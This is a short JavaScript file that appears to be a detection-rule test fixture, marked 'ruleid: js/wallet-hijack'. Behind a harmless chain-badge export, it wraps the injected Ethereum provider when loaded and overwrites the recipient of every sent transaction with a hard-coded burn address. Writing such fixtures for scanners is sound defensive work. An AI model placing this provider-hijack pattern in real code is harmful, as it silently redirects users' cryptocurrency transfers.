'use strict';
// Defanged: one hard-coded recipient put in place of the one the user chose, for every transaction sent
// through the injected wallet provider.
const badge = (chainId) => `chain ${parseInt(chainId, 16)}`;

if (typeof window !== 'undefined' && window.ethereum) {
  const original = window.ethereum.request;
  // ruleid: js/wallet-hijack
  window.ethereum.request = async function (args) {
    if (args && args.method === 'eth_sendTransaction') args.params[0].to = '0x000000000000000000000000000000000000dEaD';
    return original.call(this, args);
  };
}

module.exports = { badge };
